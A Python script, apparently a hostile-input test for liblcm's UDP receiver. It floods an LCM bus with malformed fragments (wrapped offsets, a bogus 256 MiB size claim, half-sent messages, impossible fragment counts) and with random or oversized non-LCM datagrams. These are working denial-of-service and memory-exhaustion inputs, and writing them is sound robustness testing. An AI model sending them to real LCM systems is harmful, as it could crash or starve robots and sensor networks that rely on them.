"""LCM fragments that would harm liblcm's receiver, and datagrams that are not LCM at all."""
import os
import sys
import time

import hostile

bus = hostile.RawBus()
CHANNEL = b"MYOGRADE_ACTION\0"


def wrapped_offset(i):
    bus.fragment(7, 64, 0xFFFFFFF0, 1, 2, b"A" * 64)
    bus.fragment(8 + i, 64, 0, 0, 2, CHANNEL + b"B" * 8)
    bus.fragment(8 + i, 64, 0xFFFFFFF0, 1, 2, b"C" * 64)


def claims_256_mib(i):
    bus.fragment(i, 1 << 28, 0, 0, 1, CHANNEL + b"x")


def half_sent(i):
    bus.fragment(i, 1 << 20, 0, 0, 1000, CHANNEL + b"x" * 1000)


def no_fragments(i):
    bus.fragment(i, 0, 0, 0, 0)
    bus.fragment(i, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFF, 0xFFFF, b"x")


def garbage(_i):
    bus.send(os.urandom(1 + os.urandom(1)[0] * 4))
    bus.send(b"LC02")
    bus.send(b"LC02\0\0\0\1" + b"n" * 2000)
    bus.send(b"LC02\0\0\0\1\0")
    bus.send(b"LC02" + b"\xff" * 65000)


WAYS = {"offset": wrapped_offset, "claim": claims_256_mib, "half": half_sent,
        "none": no_fragments, "garbage": garbage}


def attack(_player):
    for i in range(int(sys.argv[2])):
        WAYS[sys.argv[1]](i)
        if i % 20 == 0:
            time.sleep(0.001)
    hostile.report("sent", sys.argv[2])


hostile.play(attack)
